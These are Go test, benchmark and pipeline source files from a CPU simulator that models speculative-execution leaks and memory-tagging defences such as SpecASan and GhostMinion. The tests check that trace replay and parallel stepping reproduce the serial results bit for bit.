// the binary format, and boots the machine from the trace frontend instead
// of the assembled program.
func buildReplay(spec *workloads.Spec, mit core.Mitigation, scale float64) func(t *testing.T) *Machine {
	return func(t *testing.T) *Machine {
		t.Helper()
		tagged := mit.MTEEnabled()
		tr, err := spec.RecordTrace(tagged, scale, trace.RecordConfig{
			MTEOn:   tagged,
			TagSeed: TagSeedBase,
		})
		if err != nil {
			t.Fatal(err)
		}
		// Round-trip through the wire format so the test covers what a
		// store-loaded trace actually replays, not just the in-memory one.
		enc, err := tr.Encode()
		if err != nil {
			t.Fatal(err)
		}
		dec, err := trace.Decode(enc)
		if err != nil {
			t.Fatal(err)
		}
		fe, err := dec.Frontend()
		if err != nil {
			t.Fatal(err)
		}
		cfg := core.DefaultConfig()
		cfg.Cores = spec.Threads
		m, err := NewMachineFrontend(cfg, mit, fe)
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < spec.Threads; i++ {
			m.Core(i).SetReg(0, uint64(i))
		}
		return m
	}
}

// BenchmarkReplayVsDecode runs the same single-core cell to completion
// fetching from the live-assembled program ("decode") and from a recorded
// trace round-tripped through the wire format ("replay"), reporting ns per
// committed instruction for each. CI compares the two: replay rides the
// same Frontend seam, so it must not cost more than noise.
func BenchmarkReplayVsDecode(b *testing.B) {
	spec := workloads.ByName("505.mcf_r")
	if spec == nil {
		b.Fatal("workload missing")
	}
	const scale = 1
	prog, err := spec.Build(false, scale)
	if err != nil {
		b.Fatal(err)
	}
	tr, err := spec.RecordTrace(false, scale, trace.RecordConfig{TagSeed: TagSeedBase})
	if err != nil {
		b.Fatal(err)
	}
	enc, err := tr.Encode()
	if err != nil {
		b.Fatal(err)
	}
	dec, err := trace.Decode(enc)
	if err != nil {
		b.Fatal(err)
	}
	fe, err := dec.Frontend()
	if err != nil {
		b.Fatal(err)
	}
	run := func(b *testing.B, fe Frontend) {
		var insts uint64
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			cfg := core.DefaultConfig()
			cfg.Cores = spec.Threads
			m, err := NewMachineFrontend(cfg, core.Unsafe, fe)
			if err != nil {
				b.Fatal(err)
			}
			res := m.Run(100_000_000)
			if res.Err != nil || res.TimedOut || res.Committed == 0 {
				b.Fatalf("run failed: %+v", res)
			}
			insts += res.Committed
		}
		b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(insts), "ns/sim-inst")
	}
	b.Run("decode", func(b *testing.B) { run(b, AssembledFrontend{Prog: prog}) })
	b.Run("replay", func(b *testing.B) { run(b, fe) })
}

// TestReplayMatchesLiveDecode is the replay contract: a machine fetching
// from a recorded trace must be bit-identical to one fetching from the
// live-assembled program — same cycles, counters, architectural state,
// leak record, and event traces — at 1, 2, and 4 cores. The fingerprint is
// the same one the parallel-stepping identity tests use, so "identical"
// here means identical to the strictest standard the repo has.
func TestReplayMatchesLiveDecode(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	mcf2 := *workloads.ByName("505.mcf_r")
	mcf2.Name, mcf2.Threads = "505.mcf_r.x2", 2
	cases := []struct {
		spec  *workloads.Spec
		mit   core.Mitigation
		scale float64
	}{
		{workloads.ByName("505.mcf_r"), core.SpecASan, 0.05},
		{&mcf2, core.Unsafe, 0.05},
		{workloads.ByName("505.mcf_r.spmd4"), core.SpecASan, 0.02},
	}
	const budget = 20_000_000
	for _, tc := range cases {
		tc := tc
		if tc.spec == nil {
			t.Fatal("workload missing from registry")
		}
		t.Run(tc.spec.Name+"/"+tc.mit.String(), func(t *testing.T) {
			t.Parallel()
			live := parallelFingerprint(t, buildLive(tc.spec, tc.mit, tc.scale), 1, budget)
			replay := parallelFingerprint(t, buildReplay(tc.spec, tc.mit, tc.scale), 1, budget)
			if live != replay {
				t.Errorf("replay fingerprint diverges from live decode:\nlive:   %s\nreplay: %s", live, replay)
			}
		})
	}
}
