package cpu

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math/rand"
	"strings"
	"testing"

	"specasan/internal/asm"
	"specasan/internal/core"
	"specasan/internal/obs"
	"specasan/internal/workloads"
)

// parallelFingerprint runs a machine with the given stepping mode and
// flattens everything observable into one comparable string: run shape,
// the merged counter set, every core's architectural end state and
// console output, the oracle's leak record, the full per-core event
// traces (hashed), and the metrics histograms. Bit-identity between
// ParallelCores=1 and ParallelCores>=2 on this fingerprint is the
// tentpole contract of gate.go.
func parallelFingerprint(t *testing.T, build func(t *testing.T) *Machine, parallel int, budget uint64) string {
	t.Helper()
	m := build(t)
	m.ParallelCores = parallel
	tr := obs.NewTracer(len(m.Cores), 0)
	met := obs.NewMetrics(len(m.Cores))
	m.AttachObs(tr, met)
	res := m.Run(budget)

	var b strings.Builder
	fmt.Fprintf(&b, "cycles=%d committed=%d timedOut=%v faulted=%v faultCore=%d\n",
		res.Cycles, res.Committed, res.TimedOut, res.Faulted, res.FaultCore)
	if res.Err != nil {
		fmt.Fprintf(&b, "simErr=%v\n", res.Err)
	}
	fmt.Fprintf(&b, "stats=%s\n", res.Stats)
	for i := range m.Cores {
		c, st := m.Cores[i], res.CoreStatuses[i]
		fmt.Fprintf(&b, "core%d: halted=%v faulted=%v faultPC=%#x timedOut=%v committed=%d lastCommit=%d exit=%d\n",
			i, st.Halted, st.Faulted, st.FaultPC, st.TimedOut, st.Committed, st.LastCommit, c.ExitCode)
		fmt.Fprintf(&b, "core%d: regs=%v flags=%v output=%q stats=%s\n",
			i, c.cRegs, c.cFlags, c.Output, c.Stats)
	}
	fmt.Fprintf(&b, "secretReads=%d leaks=%v\n", m.Oracle.SecretReads, m.Oracle.Events())
	for i := range m.Cores {
		ct := tr.Core(i)
		h := sha256.New()
		for _, ev := range ct.Events() {
			fmt.Fprintf(h, "%d %d %d %d %d\n", ev.Cycle, ev.Seq, ev.PC, ev.Arg, ev.Kind)
		}
		fmt.Fprintf(&b, "trace%d: n=%d dropped=%d h=%s\n",
			i, ct.Recorded(), ct.Dropped(), hex.EncodeToString(h.Sum(nil))[:16])
	}
	fmt.Fprintf(&b, "metrics=%+v\n", met.Record("fp", "fp", res.Cycles, res.Committed).Histograms)
	return b.String()
}

// coherencePingPong is an SPMD kernel built to stress every cross-core
// ordering the baton must serialise: a SWPAL spinlock (atomic ownership
// transfer through the directory), true-sharing stores to one line
// (remote L1D invalidations), reads of lines other cores dirty, a DC
// flush (touches every level), and per-core private work so the
// core-private tick phase has something to overlap.
const coherencePingPong = `
_start:
    ADR  X9, lock
    ADR  X10, shared
    ADR  X11, private
    LSL  X12, X0, #10      // per-core private slab
    ADD  X11, X11, X12
    MOV  X13, #30          // iterations
loop:
acquire:
    MOV  X1, #1
    SWPAL X1, X2, [X9]
    CBNZ X2, acquire
    LDR  X3, [X10]         // read line the previous owner dirtied
    ADD  X3, X3, #1
    STR  X3, [X10]         // dirty it again (true sharing)
    MOV  X1, #0
    SWPAL X1, X2, [X9]     // release
    STR  X3, [X11]         // private store: core-local traffic
    LDR  X4, [X11]
    AND  X5, X13, #3
    CBZ  X5, flush
    B    next
flush:
    DC   CIVAC, X10        // periodic flush of the contended line
    DSB
next:
    SUB  X13, X13, #1
    CBNZ X13, loop
    SVC  #0
    .org 0x40000
lock:
    .word 0
shared:
    .word 0
    .org 0x48000
private:
    .space 8192
`

func buildCoherence(cores int, mit core.Mitigation) func(t *testing.T) *Machine {
	return func(t *testing.T) *Machine {
		t.Helper()
		prog, err := asm.Assemble(coherencePingPong)
		if err != nil {
			t.Fatal(err)
		}
		cfg := core.DefaultConfig()
		cfg.Cores = cores
		m, err := NewMachine(cfg, mit, prog)
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < cores; i++ {
			m.Core(i).SetReg(0, uint64(i))
		}
		return m
	}
}

// buildSpectreSPMD runs the Spectre-v1 gadget on every core at once: the
// transient out-of-bounds loads race for the same secret-holding lines,
// so oracle leak recording and ghost-buffer traffic (under GhostMinion)
// cross the gate from several cores in the same cycles.
func buildSpectreSPMD(cores int, mit core.Mitigation) func(t *testing.T) *Machine {
	return func(t *testing.T) *Machine {
		t.Helper()
		prog, err := asm.Assemble(specV1Shape)
		if err != nil {
			t.Fatal(err)
		}
		cfg := core.DefaultConfig()
		cfg.Cores = cores
		m, err := NewMachine(cfg, mit, prog)
		if err != nil {
			t.Fatal(err)
		}
		m.Img.Tags.SetRange(0x100000, 128, 0xa)
		m.Img.Tags.SetRange(0x100080, 16, 0xb)
		m.Img.WriteU64(0x100080, 0x5ec4e7)
		m.Oracle.MarkSecret(0x100080, 16)
		return m
	}
}

// buildPARSEC builds a real 4-thread PARSEC kernel cell — the machine
// shape the paper's multicore evaluation uses.
func buildPARSEC(name string, mit core.Mitigation) func(t *testing.T) *Machine {
	return func(t *testing.T) *Machine {
		t.Helper()
		spec := workloads.ByName(name)
		if spec == nil {
			t.Fatalf("workload %s missing", name)
		}
		prog, err := spec.Build(mit.MTEEnabled(), 0.05)
		if err != nil {
			t.Fatal(err)
		}
		cfg := core.DefaultConfig()
		cfg.Cores = spec.Threads
		m, err := NewMachine(cfg, mit, prog)
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < spec.Threads; i++ {
			m.Core(i).SetReg(0, uint64(i))
		}
		return m
	}
}

// TestParallelRunByteIdentity is the tentpole contract: Run with one
// goroutine per core must be bit-identical to the serial walk — same
// cycles, same counters, same architectural state, same leak record, same
// event traces — at 1, 2, and 4 cores, across mitigations that exercise
// every gated path (plain caches, SpecASan tag checks, GhostMinion ghost
// promotion/drop). Runs under -race in CI, where any shared touch missing
// its enterShared() guard is a reported data race.
func TestParallelRunByteIdentity(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	cases := []struct {
		name   string
		build  func(t *testing.T) *Machine
		budget uint64
	}{
		{"coherence-2core-unsafe", buildCoherence(2, core.Unsafe), 2_000_000},
		{"coherence-4core-unsafe", buildCoherence(4, core.Unsafe), 2_000_000},
		{"coherence-4core-specasan", buildCoherence(4, core.SpecASan), 2_000_000},
		{"spectre-1core-specasan", buildSpectreSPMD(1, core.SpecASan), 300_000},
		{"spectre-2core-unsafe", buildSpectreSPMD(2, core.Unsafe), 300_000},
		{"spectre-4core-specasan", buildSpectreSPMD(4, core.SpecASan), 300_000},
		{"spectre-4core-ghostminion", buildSpectreSPMD(4, core.GhostMinion), 300_000},
		{"parsec-blackscholes-unsafe", buildPARSEC("blackscholes", core.Unsafe), 20_000_000},
		{"parsec-blackscholes-specasan", buildPARSEC("blackscholes", core.SpecASan), 20_000_000},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			serial := parallelFingerprint(t, tc.build, 1, tc.budget)
			parallel := parallelFingerprint(t, tc.build, 2, tc.budget)
			if serial != parallel {
				t.Errorf("parallel run diverged from serial:\n--- serial ---\n%s\n--- parallel ---\n%s",
					serial, parallel)
			}
		})
	}
}

// TestParallelDifferentialCorpusByteIdentity runs the differential safety
// net's 64-seed random program corpus as 2-core SPMD machines: both cores
// execute the same generated program, so their stores and MTE tag writes
// collide on the same data granules — the adversarial case for the shared
// phase. The serial and parallel fingerprints must match seed by seed.
func TestParallelDifferentialCorpusByteIdentity(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	for seed := int64(1000); seed < 1064; seed++ {
		seed := seed
		rng := rand.New(rand.NewSource(seed))
		src := genRandomProgram(rng, seed%2 == 0)
		mit := core.Unsafe
		if seed%3 == 0 {
			mit = core.SpecASan
		}
		build := func(t *testing.T) *Machine {
			prog, err := asm.Assemble(src)
			if err != nil {
				t.Fatalf("corpus program does not assemble: %v", err)
			}
			cfg := core.DefaultConfig()
			cfg.Cores = 2
			m, err := NewMachine(cfg, mit, prog)
			if err != nil {
				t.Fatal(err)
			}
			return m
		}
		t.Run(fmt.Sprintf("seed%d/%v", seed, mit), func(t *testing.T) {
			serial := parallelFingerprint(t, build, 1, 500_000)
			parallel := parallelFingerprint(t, build, 2, 500_000)
			if serial != parallel {
				t.Errorf("parallel run diverged from serial:\n--- serial ---\n%s\n--- parallel ---\n%s",
					serial, parallel)
			}
		})
	}
}

// TestParallelSkipIdleByteIdentity crosses the two time-advance levers:
// idle skipping runs on the scheduler goroutine after the join barrier, so
// it must stay exactness-preserving when the ticks it skips between were
// stepped concurrently.
func TestParallelSkipIdleByteIdentity(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	build := buildCoherence(4, core.SpecASan)
	ref := parallelFingerprint(t, build, 1, 2_000_000)
	for _, skip := range []bool{true, false} {
		m := func(t *testing.T) *Machine {
			m := build(t)
			m.SkipIdle = skip
			return m
		}
		got := parallelFingerprint(t, m, 2, 2_000_000)
		if got != ref {
			t.Errorf("skipIdle=%v parallel run diverged from serial skipping run:\n--- want ---\n%s\n--- got ---\n%s",
				skip, ref, got)
		}
	}
}

// TestParallelRunNamesTimedOutCore pins per-core timeout attribution under
// concurrent stepping: when core 1 is still spinning at the budget while
// core 0 halted long ago, the timeout must name core 1 in CoreStatuses —
// with its LastCommit — not report a machine-wide anonymous timeout.
func TestParallelRunNamesTimedOutCore(t *testing.T) {
	prog, err := asm.Assemble(`
_start:
    CBZ  X0, done
spin:
    ADD  X1, X1, #1
    B    spin
done:
    SVC  #0
`)
	if err != nil {
		t.Fatal(err)
	}
	cfg := core.DefaultConfig()
	cfg.Cores = 2
	m, err := NewMachine(cfg, core.Unsafe, prog)
	if err != nil {
		t.Fatal(err)
	}
	m.Core(0).SetReg(0, 0)
	m.Core(1).SetReg(0, 1)
	m.ParallelCores = 2 // force concurrent stepping even at GOMAXPROCS=1
	m.Watchdog = nil    // the spin loop commits forever; let the budget end it
	res := m.Run(20_000)
	if !res.TimedOut {
		t.Fatalf("expected timeout, got %v", res)
	}
	if got := res.TimedOutCores(); len(got) != 1 || got[0] != 1 {
		t.Fatalf("timed-out cores = %v, want [1]", got)
	}
	st := res.CoreStatuses
	if !st[0].Halted || st[0].TimedOut {
		t.Fatalf("core 0 should have halted cleanly: %+v", st[0])
	}
	if !st[1].TimedOut || st[1].LastCommit == 0 {
		t.Fatalf("core 1 should be timed out with a LastCommit: %+v", st[1])
	}
	if st[1].LastCommit < st[0].LastCommit {
		t.Fatalf("spinning core's LastCommit (%d) should be at least the halted core's (%d)",
			st[1].LastCommit, st[0].LastCommit)
	}
}

// TestParallelWatchdogNamesWedgedCore: the watchdog runs on the scheduler
// goroutine between concurrent steps; a commit-stage freeze on one core of
// a parallel machine must still produce a structured verdict naming that
// core, with the healthy cores untouched.
func TestParallelWatchdogNamesWedgedCore(t *testing.T) {
	prog := wedgeProg(t)
	cfg := core.DefaultConfig()
	cfg.Cores = 2
	m, err := NewMachine(cfg, core.Unsafe, prog)
	if err != nil {
		t.Fatal(err)
	}
	m.ParallelCores = 2
	m.Watchdog.StallCycles = 2000
	m.Core(1).InjectWedge()
	res := m.Run(50_000_000)
	if res.Err == nil {
		t.Fatalf("wedged core not caught: %v", res)
	}
	if res.Err.Kind != "commit-stall" || res.Err.Core != 1 {
		t.Fatalf("wrong verdict: %v", res.Err)
	}
	if res.TimedOut {
		t.Fatal("watchdog verdict should supersede the timeout flag")
	}
	if len(res.CoreStatuses) != 2 {
		t.Fatalf("core statuses missing: %+v", res.CoreStatuses)
	}
	if res.CoreStatuses[0].LastCommit == 0 {
		t.Fatalf("healthy core 0 should have commit progress: %+v", res.CoreStatuses[0])
	}
	if res.CoreStatuses[1].Committed != 0 {
		t.Fatalf("wedged core 1 committed %d instructions past the freeze", res.CoreStatuses[1].Committed)
	}
}

// TestMachineStepAllocsTracedParallel extends the zero-alloc contract to
// concurrent stepping: with the per-core worker crew live and a tracer plus
// metrics attached, a steady-state machine cycle must still not allocate —
// the baton and the generation barrier are mutex/cond handoffs over
// preallocated state, and the obs rings stay single-writer per core.
func TestMachineStepAllocsTracedParallel(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	m := buildPARSEC("blackscholes", core.Unsafe)(t)
	m.AttachObs(obs.NewTracer(len(m.Cores), 0), obs.NewMetrics(len(m.Cores)))
	m.crew = startCrew(m.Cores)
	defer func() {
		m.crew.shutdown()
		m.crew = nil
	}()
	for i := 0; i < 2000 && !m.Done(); i++ {
		m.Step()
	}
	if m.Done() {
		t.Fatal("machine halted during warmup; enlarge the workload scale")
	}
	allocs := testing.AllocsPerRun(2000, func() {
		if !m.Done() {
			m.Step()
		}
	})
	if allocs > 0.01 {
		t.Errorf("parallel traced Machine.Step allocates %.3f objects/step in steady state, want ~0", allocs)
	}
}

// BenchmarkMachineRunParallel measures whole-run wall time of the 4-core
// coherence kernel in both stepping modes — the honest basis for the
// BENCH_sim.json multicore block's speedup/overhead numbers.
func BenchmarkMachineRunParallel(b *testing.B) {
	for _, mode := range []struct {
		name     string
		parallel int
	}{{"serial", 1}, {"parallel", 2}} {
		b.Run(mode.name, func(b *testing.B) {
			prog := asm.MustAssemble(coherencePingPong)
			cfg := core.DefaultConfig()
			cfg.Cores = 4
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				m, err := NewMachine(cfg, core.Unsafe, prog)
				if err != nil {
					b.Fatal(err)
				}
				for c := 0; c < 4; c++ {
					m.Core(c).SetReg(0, uint64(c))
				}
				m.ParallelCores = mode.parallel
				if res := m.Run(2_000_000); res.TimedOut {
					b.Fatal("benchmark kernel timed out")
				}
			}
		})
	}
}
