package cpu

import (
	"specasan/internal/cache"
	"specasan/internal/core"
	"specasan/internal/isa"
	"specasan/internal/mte"
	"specasan/internal/obs"
)

// lateTagCheckPenalty is the extra latency of re-running the tag check at
// the core when the early-propagation design is disabled (ablation).
const lateTagCheckPenalty = 3

// startMemOp begins execution of a memory instruction whose operands are
// ready: it computes the effective address (AGU), runs disambiguation and
// store-to-load forwarding for loads, and issues cache accesses.
// It may leave the entry in stDispatched (waiting for disambiguation or an
// older store), in which case issue() retries next cycle.
func (c *Core) startMemOp(e *robEntry) {
	in := e.inst
	if !e.addrReady {
		rn, _ := c.readSource2(e, in.Rn)
		rm := uint64(0)
		if !in.HasImm {
			rm, _ = c.readSource2(e, in.Rm)
		}
		switch in.Op {
		case isa.STG, isa.ST2G, isa.LDG, isa.SWPAL:
			e.addr = rn
		default:
			e.addr = isa.EffAddr(in, rn, rm)
		}
		e.addrReady = true
		if e.isStore {
			c.unresolvedStores--
		}
		// A store's address just resolved: run the memory-order check
		// against younger loads that speculatively bypassed it.
		if e.isStore && in.Op != isa.SWPAL {
			data, _ := c.readSource2(e, in.Rd)
			e.storeData = data
			if c.checkOrderViolation(e) {
				return // squash redirected the pipeline
			}
		}
	}

	switch in.Op {
	case isa.STR, isa.STRB, isa.STG, isa.ST2G:
		c.executeStore(e)
	case isa.LDR, isa.LDRB:
		c.executeLoad(e)
	case isa.LDG:
		// Tag-granule read: returns the allocation tag in the pointer's
		// key byte. Modelled as a short tag-storage access. An older
		// uncommitted STG/ST2G to this granule must drain first — its
		// architectural tag write happens at commit.
		if c.tagWritesInFlight > 0 && c.olderTagWriteCovering(e.seq, e.addr, 1) {
			e.state = stDispatched // retry once the tag write commits
			return
		}
		c.enterShared()
		lock := c.img.Tags.Lock(e.addr)
		oldRd, _ := c.readSource2(e, in.Rd)
		e.result, e.hasResult = mte.WithKey(oldRd, lock), true
		c.setDone(e, c.cycle+c.cfg.L1DLatency)
	case isa.SWPAL:
		c.executeAtomic(e)
	}
}

// olderTagWriteInFlight reports an older uncommitted STG/ST2G covering any
// granule of the access: the tag check must wait for the tag write, exactly
// as a load must wait for an older same-address store.
func (c *Core) olderTagWriteInFlight(seq uint64, addr uint64, size int) bool {
	if !c.mteOn || c.tagWritesInFlight == 0 {
		return false
	}
	return c.olderTagWriteCovering(seq, addr, size)
}

// olderTagWriteCovering is the ungated scan behind olderTagWriteInFlight.
// LDG consults it directly: tag stores update the architectural tag image at
// commit whether or not MTE checking is on, so a tag read must order after
// older in-flight STG/ST2G under every mitigation.
func (c *Core) olderTagWriteCovering(seq uint64, addr uint64, size int) bool {
	first := mte.GranuleIndex(addr)
	last := mte.GranuleIndex(mte.Strip(addr) + uint64(size) - 1)
	for _, s := range c.storeQ {
		if s >= seq {
			break
		}
		o := &c.rob[s&c.robMask]
		if o.inst.Op != isa.STG && o.inst.Op != isa.ST2G {
			continue
		}
		if !o.addrReady {
			return true // unknown granule: conservatively wait
		}
		g0 := mte.GranuleIndex(o.addr)
		g1 := g0
		if o.inst.Op == isa.ST2G {
			g1 = g0 + 1
		}
		if first <= g1 && g0 <= last {
			return true
		}
	}
	return false
}

// executeStore tag-checks the store (address known; data captured) and marks
// it executed. The actual memory write happens at commit.
func (c *Core) executeStore(e *robEntry) {
	if e.inst.Op == isa.STR || e.inst.Op == isa.STRB {
		if c.olderTagWriteInFlight(e.seq, e.addr, e.inst.MemBytes()) {
			e.state = stDispatched // wait for the older tag write to commit
			return
		}
		if c.mteOn {
			c.enterShared()
			ok := c.img.Tags.CheckAccess(e.addr, e.inst.MemBytes())
			e.tagOK = ok
			c.tsh.OnResult(e.seq, ok)
			if !ok {
				// Committed-path MTE fault (G2: the store never altered
				// memory; the fault is precise at commit).
				e.fault, e.faultIsTag = true, true
			}
		} else {
			c.tsh.OnResult(e.seq, true)
		}
	} else {
		c.tsh.OnResult(e.seq, true) // STG/ST2G are tag writes, never checked
	}
	if e.fault {
		c.markRisk(e)
	}
	c.setDone(e, c.cycle+1)
	bump(&c.nStoresExec, c.Stats, "stores_executed")
	if c.TraceFn != nil {
		c.trace("cycle %d: store seq=%d pc=%#x addr=%#x data=%#x tagOK=%v",
			c.cycle, e.seq, e.pc, mte.Strip(e.addr), e.storeData, e.tagOK)
	}
}

// executeAtomic performs SWPAL at the head of the ROB only (acquire/release
// semantics: no speculation). The read-modify-write goes through the cache
// and the image immediately; commit is a no-op for it.
func (c *Core) executeAtomic(e *robEntry) {
	if e.seq != c.headSeq || c.speculative(e) {
		e.state = stDispatched
		return
	}
	c.enterShared()
	res := c.hier.Access(cache.AccessReq{
		Core: c.ID, Ptr: e.addr, Size: 8, Write: true, Now: c.cycle,
	})
	e.tagOK = res.TagOK
	c.obsRecord(e.seq, e.pc, obs.EvMem, mte.Strip(e.addr))
	if c.mteOn && !res.TagOK {
		e.fault, e.faultIsTag = true, true
		c.markRisk(e)
		c.setDone(e, res.ReadyAt)
		return
	}
	a := mte.Strip(e.addr)
	old := c.img.ReadU64(a)
	newVal, _ := c.readSource2(e, e.inst.Rd)
	c.img.WriteU64(a, newVal)
	e.result, e.hasResult = old, true
	c.setDone(e, res.ReadyAt)
	c.Stats.Inc("atomics")
}

// olderStoreScan classifies the relationship between a load and the store
// queue contents.
type fwdDecision uint8

const (
	fwdNone    fwdDecision = iota // no interaction: go to the cache
	fwdData                       // forward exact-match store data
	fwdWait                       // partial overlap / data not ready: retry later
	fwdDepWait                    // unresolved older store + MDU predicts conflict
	fwdFallout                    // baseline partial-address (WTF) false forward
)

func rangesOverlap(a1 uint64, s1 int, a2 uint64, s2 int) bool {
	return a1 < a2+uint64(s2) && a2 < a1+uint64(s1)
}

func covers(a1 uint64, s1 int, a2 uint64, s2 int) bool {
	return a1 <= a2 && a1+uint64(s1) >= a2+uint64(s2)
}

// scanStoreQueue inspects older in-flight stores for the load.
func (c *Core) scanStoreQueue(e *robEntry) (dec fwdDecision, st *robEntry) {
	la := mte.Strip(e.addr)
	size := e.inst.MemBytes()
	unresolved := false
	var fallout *robEntry
	// Scan youngest-first: the nearest older store wins. storeQ holds the
	// in-flight stores ascending, so walk it from the back.
	for i := len(c.storeQ) - 1; i >= 0; i-- {
		s := c.storeQ[i]
		if s >= e.seq {
			continue
		}
		o := &c.rob[s&c.robMask]
		if o.inst.Op == isa.SWPAL || o.inst.Op == isa.STG || o.inst.Op == isa.ST2G {
			continue
		}
		if !o.addrReady {
			unresolved = true
			continue
		}
		sa := mte.Strip(o.addr)
		ssize := o.inst.MemBytes()
		if rangesOverlap(la, size, sa, ssize) {
			if covers(sa, ssize, la, size) {
				return fwdData, o
			}
			return fwdWait, o
		}
		// Fallout surface: the baseline forwards on a page-offset match
		// before the full physical address is compared.
		if c.cfg.PartialSQMatching && fallout == nil && sa != la &&
			sa&0xfff == la&0xfff && ssize >= size {
			fallout = o
		}
	}
	if fallout != nil {
		return fwdFallout, fallout
	}
	if unresolved {
		if c.mduPredictsConflict(e.pc) {
			return fwdDepWait, nil
		}
		// Memory-dependence speculation window opens.
		e.memDepSpec = true
	}
	return fwdNone, nil
}

func (c *Core) mduPredictsConflict(pc uint64) bool { return c.mduPred[pc] >= 2 }

func (c *Core) trainMDU(pc uint64, violated bool) {
	v := c.mduPred[pc]
	if violated {
		c.mduPred[pc] = 3
	} else if v > 0 {
		c.mduPred[pc] = v - 1
	}
}

// olderBarrierInFlight reports an older uncompleted atomic or barrier:
// acquire/release semantics forbid younger loads from executing past it.
func (c *Core) olderBarrierInFlight(seq uint64) bool {
	for _, s := range c.barrierQ {
		if s >= seq {
			break
		}
		o := &c.rob[s&c.robMask]
		if o.state != stDone || o.doneAt > c.cycle {
			return true
		}
	}
	return false
}

// executeLoad runs the load path of Figure 4.
func (c *Core) executeLoad(e *robEntry) {
	in := e.inst
	if c.olderBarrierInFlight(e.seq) {
		e.state = stDispatched // retry after the barrier completes
		return
	}
	if c.olderTagWriteInFlight(e.seq, e.addr, in.MemBytes()) {
		e.state = stDispatched // wait for the older tag write to commit
		return
	}
	size := in.MemBytes()
	spec := c.speculative(e)
	trans := c.transient(e)

	// Assist (permission-faulting) region: the Meltdown/MDS window. The
	// load will fault at commit; transiently it may sample in-flight data.
	if c.inAssist(e.addr) && !e.memIssued {
		e.assist = true
		e.fault = true // permission fault at commit
		c.markRisk(e)
		c.tsh.OnIssue(e.seq)
		c.enterShared()
		res := c.hier.Access(cache.AccessReq{
			Core: c.ID, Ptr: e.addr, Size: size, Now: c.cycle,
			Spec: true, BlockUnsafe: c.specChecks,
			FaultingSample: c.cfg.LFBLeakForwarding,
		})
		e.memIssued = true
		e.tagOK = res.TagOK
		c.obsRecord(e.seq, e.pc, obs.EvMem, mte.Strip(e.addr))
		c.tsh.OnResult(e.seq, false) // assists are never safe accesses
		e.state, e.doneAt = stWaitMem, res.ReadyAt
		e.result, e.hasResult = 0, true
		if res.ServedBy == "lfb-stale" && len(res.StaleData) > 0 {
			// Transient stale-data forward (RIDL/ZombieLoad behaviour).
			off := int(mte.Strip(e.addr)) % len(res.StaleData)
			v := uint64(0)
			for i := 0; i < size && off+i < len(res.StaleData); i++ {
				v |= uint64(res.StaleData[off+i]) << (8 * i)
			}
			e.result = v
			if c.oracle.HasSecrets() && c.oracle.IsSecret(res.StaleAddr, len(res.StaleData)) {
				e.secret = true
				c.oracle.SecretReads++
			}
			c.Stats.Inc("mds_stale_forwards")
		}
		return
	}

	// Store queue interaction.
	e.memDepSpec = false
	switch dec, st := c.scanStoreQueue(e); dec {
	case fwdWait, fwdDepWait:
		e.state = stDispatched // retry next cycle
		if dec == fwdDepWait {
			c.Stats.Inc("mdu_waits")
		}
		return
	case fwdData:
		// Store-to-load forwarding: SpecASan requires the address keys to
		// match (§3.4, "Store-to-Load Forwarding").
		keysMatch := mte.Key(e.addr) == mte.Key(st.addr) || !c.mteOn
		if c.specChecks && !c.tsh.OnForward(e.seq, keysMatch) {
			e.state = stWaitUnsafe
			c.onUnsafeAccess(e)
			c.Stats.Inc("forward_denied")
			return
		}
		if !c.specChecks {
			c.tsh.OnForward(e.seq, true)
		}
		off := mte.Strip(e.addr) - mte.Strip(st.addr)
		e.result, e.hasResult = extractBytes(st.storeData, int(off), size), true
		e.forwardedFrom = st.seq
		e.tagOK = true
		if st.secret {
			e.secret = true
		}
		c.setDone(e, c.cycle+2)
		c.Stats.Inc("stl_forwards")
		return
	case fwdFallout:
		if c.TraceFn != nil {
			c.trace("cycle %d: load seq=%d fallout-candidate from store seq=%d", c.cycle, e.seq, st.seq)
		}
		if c.specChecks {
			// SpecASan checks tags before any forward: a partial match
			// cannot validate, so the false forward never happens; the
			// load proceeds to the cache below.
			c.Stats.Inc("fallout_blocked")
		} else {
			// Baseline WTF behaviour: wrong-store data transiently
			// forwarded; the load is re-executed (squash) when the store
			// commits and the full addresses are compared.
			e.result, e.hasResult = st.storeData, true
			e.falloutForward = true
			e.forwardedFrom = st.seq
			// Register on the store so its commit-time WTF check visits
			// only its own forwards instead of sweeping the load queue.
			st.falloutFwds = append(st.falloutFwds, e.seq)
			c.markRisk(e)
			e.tagOK = true
			c.enterShared() // SecretReads accounting mutates the oracle
			if st.secret || (c.oracle.HasSecrets() && c.oracle.IsSecret(mte.Strip(st.addr), 8)) {
				e.secret = true
				c.oracle.SecretReads++
			}
			c.setDone(e, c.cycle+2)
			c.Stats.Inc("fallout_forwards")
			return
		}
	}

	// SpecASan's Spectre-STL rule (§4.1): a tagged load that would open a
	// memory-dependence speculation window is delayed until the older store
	// addresses resolve, because forwarding cannot be tag-validated until
	// then. A prefetch request still warms the cache so the replayed load
	// completes with minimal overhead.
	if c.specChecks && e.memDepSpec && mte.Key(e.addr) != 0 {
		if !e.prefetched {
			e.prefetched = true
			c.enterShared()
			c.hier.Access(cache.AccessReq{
				Core: c.ID, Ptr: e.addr, Size: size, Now: c.cycle,
				Spec: true, BlockUnsafe: true,
			})
			c.Stats.Inc("stl_delays")
		}
		e.policyDelayed = true
		e.state = stDispatched // retry until the stores resolve
		return
	}

	// Issue to the cache hierarchy. GhostMinion and STT classify loads by
	// *prediction-based* speculation (control or memory dependence): loads
	// outside those windows fill the real caches directly — the scope gap
	// MDS attacks walk through.
	ghostUsed := c.ghostOn && c.specOrMemDep(e)
	c.tsh.OnIssue(e.seq)
	c.enterShared()
	res := c.hier.Access(cache.AccessReq{
		Core: c.ID, Ptr: e.addr, Size: size, Now: c.cycle,
